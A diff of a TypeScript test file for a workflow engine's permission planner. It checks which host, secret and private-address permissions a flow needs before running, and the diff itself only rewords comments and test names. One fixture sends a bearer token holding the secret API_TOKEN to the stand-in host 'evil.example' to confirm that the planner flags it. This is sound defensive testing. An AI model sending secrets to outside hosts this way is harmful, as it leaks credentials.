@@ -1,4 +1,4 @@
-/** The permissions that a flow lacks, before it runs. */
+/** Tests which permissions a flow lacks before it runs. */
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { needText } from '../base/consent.ts';
 import type { JsonMap, JsonValue } from '../flowspec/json-value.ts';
@@ -27,7 +27,7 @@ const call = (id: string, input: JsonMap, more: JsonMap = {}): JsonMap => ({
 const flowOf = (nodes: readonly JsonMap[], more: JsonMap = {}): string =>
   JSON.stringify({ flow: { name: 'F', ...more }, nodes, edges: [] } as JsonValue);
 
-/** What the flow lacks, in words, with the nodes that need it. */
+/** Returns the missing permissions as text, with the nodes that need them. */
 async function missing(text: string, inputs: JsonMap = {}): Promise<Record<string, readonly string[]>> {
   const plan = await engine.findPermissions({ by: 'startRun', request: { path: 'call.flow.yaml', text, inputs } });
   return Object.fromEntries(plan.missing.map(({ need, nodes }) => [needText(need), nodes]));
@@ -35,7 +35,7 @@ async function missing(text: string, inputs: JsonMap = {}): Promise<Record<strin
 
 const token = { authorization: 'Bearer {{secret.API_TOKEN}}' };
 
-test('13.6 one plan names hosts, secrets, private addresses and trust, with the nodes that need them', async () => {
+test('13.6 one plan lists hosts, secrets, private addresses and trust, with the nodes that need them', async () => {
   await open();
   world.folder.write('workspace/inner.flow.yaml', flowOf([call('deep', { url: 'http://10.0.0.7:8080/x' })]));
   const text = flowOf([
@@ -65,7 +65,7 @@ test('13.6 one plan names hosts, secrets, private addresses and trust, with the 
   expect(hosts).toEqual(['shop.example', 'desk.example', '192.168.1.20', '10.0.0.7:8080']);
   await engine.grantPermissions(needs.map(({ need }) => need));
   expect(await missing(text)).toEqual({});
-  // The permissions are for this text of the flow, and for these hosts.
+  // The permissions apply to this text of the flow and to these hosts only.
   expect(Object.keys(await missing(flowOf([call('a', { url: 'https://evil.example/', headers: token })])))).toEqual([
     'send the secret API_TOKEN to evil.example',
   ]);
@@ -91,7 +91,7 @@ test.each<[string, JsonMap, number]>([
   expect(Object.keys(await missing(flowOf(nodes, { input: { host: '192.168.1.2' } })))).toHaveLength(count);
 });
 
-test('13.6 plans with the inputs of the run, and for a trusted workspace only what secrets lack', async () => {
+test('13.6 uses the inputs of the run, and in a trusted workspace lists only missing permissions for secrets', async () => {
   await open({ isTrusted: true });
   const text = flowOf([call('b', { url: 'http://{{flow.input.host}}/', headers: token })], {
     input: { host: 'a.example' },
@@ -100,7 +100,7 @@ test('13.6 plans with the inputs of the run, and for a trusted workspace only wh
   expect(await missing(text, { host: 'b.example' })).toEqual({ 'send the secret API_TOKEN to b.example': ['b'] });
 });
 
-test('13.6 plans nothing where a policy refuses, or where no person could give a permission', async () => {
+test('13.6 plans nothing if a policy denies the effect, or if no person could grant the permission', async () => {
   world.folder.write('workspace/millrace.policy.yaml', 'effects: { command: deny }\nblocked_hosts: ["192.168.1.2"]\n');
   const text = flowOf([
     call('a', { url: 'http://192.168.1.2/' }),
@@ -114,7 +114,7 @@ test('13.6 plans nothing where a policy refuses, or where no person could give a
   expect(await missing(text)).toEqual({});
 });
 
-test('13.6 plans nothing for a flow with a secret that has no value yet: that is said first', async () => {
+test('13.6 reports a secret without a value before planning anything', async () => {
   await open({ isTrusted: true });
   const text = flowOf([call('a', { url: 'https://desk.example/', headers: { a: '{{secret.OTHER}}' } })]);
   const request = { path: 'call.flow.yaml', text, inputs: {} };
